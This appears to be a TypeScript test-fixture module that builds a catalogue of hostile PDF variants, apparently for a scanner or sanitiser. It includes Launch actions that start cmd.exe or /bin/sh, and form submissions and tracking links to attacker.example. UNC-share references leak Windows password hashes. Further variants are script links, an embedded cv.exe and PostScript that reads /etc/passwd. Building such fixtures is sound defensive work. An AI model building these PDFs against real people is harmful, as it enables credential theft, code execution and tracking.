import { deflated } from './pdf-filters.ts';
import { type More, type Objects, pdf, stream } from './pdf-parts.ts';
import { program, type Row } from './variant.ts';

const onOpening = (action: string, objects: Objects = {}) =>
  pdf({ catalogue: '/OpenAction 6 0 R', objects: { 6: action, ...objects } });
const onClick = (action: string, catalogue = '') =>
  pdf({
    catalogue,
    page: '/Annots [6 0 R]',
    objects: {
      6: `<< /Type /Annot /Subtype /Link /Rect [72 500 400 780] /Border [0 0 0] /A ${action} >>`,
    },
  });
const annotated = (annotation: string, objects: Objects, more: More = {}) =>
  pdf({
    ...more,
    page: '/Annots [6 0 R]',
    objects: {
      6: `<< /Type /Annot /Rect [72 500 400 780] /P 3 0 R /F 4 ${annotation} >>`,
      ...objects,
    },
  });

const embedded = stream(
  deflated(program),
  '/Type /EmbeddedFile /Subtype /application#2Foctet-stream /Filter /FlateDecode',
);
const file = '<< /Type /Filespec /F (cv.exe) /UF (cv.exe) /EF << /F 9 0 R >> /AFRelationship /Data >>';
const attached = { 8: file, 9: embedded };
const share = '(\\\\\\\\attacker.example\\\\share\\\\cv.pdf)';
const reason = 'Acrobat offers the program to the person who opens the file.';
const asks =
  'Windows answers the share of a stranger with the name and the hashed password of the person who opens the file.';

/** What starts a program, fetches from elsewhere, sends away or carries another file. */
export const pdfReachingOut: readonly Row[] = [
  [
    'starts a program',
    onOpening('<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>'),
    'Acrobat asks to start the program.',
  ],
  [
    'starts a program on a click',
    onClick('<< /S /Launch /F << /Type /Filespec /F (file:///C:/Windows/System32/calc.exe) >> >>'),
    'Acrobat asks to start the program on a click.',
  ],
  [
    'starts a program of Unix',
    onOpening('<< /S /Launch /Unix << /F (/bin/sh) >> /F (/bin/sh) >>'),
    'Readers on Unix ask to start the program.',
  ],
  ['opens a file on a share', onOpening(`<< /S /GoToR /F ${share} /D [0 /Fit] >>`), asks],
  [
    'page shown opens a file on a share',
    pdf({ page: `/AA << /O << /S /GoToE /F << /Type /Filespec /F ${share} >> /D [0 /Fit] >> >>` }),
    asks,
  ],
  ['thread of a file on a share', onOpening(`<< /S /Thread /F ${share} /D 0 >>`), asks],
  [
    'jump into a file that is embedded',
    pdf({
      catalogue:
        '/OpenAction << /S /GoToE /D [0 /Fit] /T << /R /C /N (a) >> >> /Names << /EmbeddedFiles << /Names [(a) 8 0 R] >> >>',
      objects: attached,
    }),
    'Acrobat opens the embedded file.',
  ],
  [
    'sends a form on opening',
    onOpening('<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> /Flags 256 >>'),
    'Acrobat sends the form to a stranger.',
  ],
  ['imports data from a share', onOpening(`<< /S /ImportData /F ${share} >>`), asks],
  [
    'opens an address on opening',
    onOpening('<< /S /URI /URI (https://attacker.example/seen) >>'),
    'Acrobat and browsers tell a stranger when the file is opened.',
  ],
  [
    'opens an address when a page is shown',
    pdf({ page: '/AA << /O << /S /URI /URI (https://attacker.example/seen) >> >>' }),
    'Acrobat tells a stranger when the page is seen.',
  ],
  [
    'link to a script',
    onClick('<< /S /URI /URI (javascript:alert\\(1\\)) >>'),
    'A reader within a browser runs the script on a click.',
  ],
  [
    'link to a script, with spaces and capitals',
    onClick('<< /S /URI /URI (\\t jAva\\nScript:alert\\(1\\)) >>'),
    'Browsers take line ends and spaces out of an address, and run the script.',
  ],
  [
    'link to a script as hexadecimal',
    onClick(`<< /S /URI /URI <${Buffer.from('vbscript:msgbox(1)').toString('hex')}> >>`),
    'A reader within Internet Explorer runs the script.',
  ],
  [
    'link to a file',
    onClick('<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>'),
    'Acrobat opens the program on a click, after asking.',
  ],
  ['link to a share', onClick('<< /S /URI /URI (file://attacker.example/share/cv.exe) >>'), asks],
  [
    'link with data',
    onClick('<< /S /URI /URI (data:text/html,<script>alert\\(1\\)</script>) >>'),
    'Some readers show the page and run its script.',
  ],
  [
    'link to a tool of Windows',
    onClick('<< /S /URI /URI (ms-msdt:/id PCWDiagnostic) >>'),
    'Windows starts the tool on a click.',
  ],
  [
    'short link on the base of a share',
    onClick('<< /S /URI /URI (cv.exe) >>', '/URI << /Base (file://attacker.example/share/) >>'),
    asks,
  ],
  [
    'attachment',
    pdf({ catalogue: '/Names << /EmbeddedFiles << /Names [(cv.exe) 8 0 R] >> >>', objects: attached }),
    reason,
  ],
  [
    'attachment deep in the tree of names',
    pdf({
      catalogue: '/Names 10 0 R',
      objects: {
        ...attached,
        10: '<< /EmbeddedFiles 11 0 R >>',
        11: '<< /Kids [12 0 R] >>',
        12: '<< /Limits [(a) (a)] /Names [(a) 8 0 R] >>',
      },
    }),
    reason,
  ],
  [
    'attachment behind a paper clip',
    annotated('/Subtype /FileAttachment /FS 8 0 R /Contents (CV)', attached),
    reason,
  ],
  ['associated file of the catalogue', pdf({ catalogue: '/AF [8 0 R]', objects: attached }), reason],
  ['associated file of a page', pdf({ page: '/AF [8 0 R]', objects: attached }), reason],
  [
    'portfolio',
    pdf({
      catalogue:
        '/Collection << /Type /Collection /View /D >> /Names << /EmbeddedFiles << /Names [(a) 8 0 R] >> >>',
      objects: attached,
    }),
    'Acrobat shows the files in the portfolio instead of the page.',
  ],
  [
    'rich media',
    annotated(
      '/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.swf) 8 0 R] >> /Configurations [<< /Type /RichMediaConfiguration /Subtype /Flash /Instances [<< /Asset 8 0 R >>] >>] >> /RichMediaSettings << /Activation << /Condition /PO >> >>',
      attached,
    ),
    'Acrobat plays the media when the page is shown.',
  ],
  [
    '3D model with a script',
    annotated('/Subtype /3D /3DD 10 0 R /3DA << /A /PO >>', {
      10: stream('PRC', '/Type /3D /Subtype /PRC /OnInstantiate 11 0 R'),
      11: stream("host.app.alert('attack');"),
    }),
    'Acrobat runs the script when the model is shown.',
  ],
  [
    'sound',
    annotated('/Subtype /Sound /Sound 10 0 R', { 10: stream('\0'.repeat(100), '/Type /Sound /R 8000') }),
    'Older readers play the sound.',
  ],
  [
    'sound fetched when a page is shown',
    pdf({
      page: '/AA << /O << /S /Sound /Sound 10 0 R >> >>',
      objects: {
        10: stream('', `/Type /Sound /R 8000 /F << /FS /URL /F (https://attacker.example/a.wav) >>`),
      },
    }),
    'Older readers fetch the sound.',
  ],
  ['movie on a share', annotated(`/Subtype /Movie /T (m) /Movie << /F ${share} >> /A true`, {}), asks],
  [
    'rendition fetched when a page is shown',
    annotated(
      '/Subtype /Screen /AA << /PV << /S /Rendition /OP 0 /AN 6 0 R /R << /S /MR /C << /S /MCD /CT (video/mp4) /D << /FS /URL /F (https://attacker.example/a.mp4) >> >> >> >> >>',
      {},
    ),
    'Acrobat fetches the film.',
  ],
  [
    'words of a page kept in another file',
    pdf({ objects: { 4: stream('', `/F << /Type /Filespec /F ${share} >> /FFilter /FlateDecode`) } }),
    asks,
  ],
  [
    'picture of a page in another file',
    pdf({
      page: '/Resources << /Font << /F1 5 0 R >> /XObject << /R 10 0 R >> >>',
      objects: {
        10: stream(
          '',
          `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F << /Type /Filespec /F ${share} >> /Page 0 >>`,
        ),
      },
    }),
    asks,
  ],
  [
    'PostScript for the printer',
    pdf({
      page: '/Resources << /Font << /F1 5 0 R >> /XObject << /R 10 0 R >> >>',
      objects: { 10: stream('(/etc/passwd) (r) file', '/Type /XObject /Subtype /PS') },
    }),
    'A printer that speaks PostScript runs the program.',
  ],
];
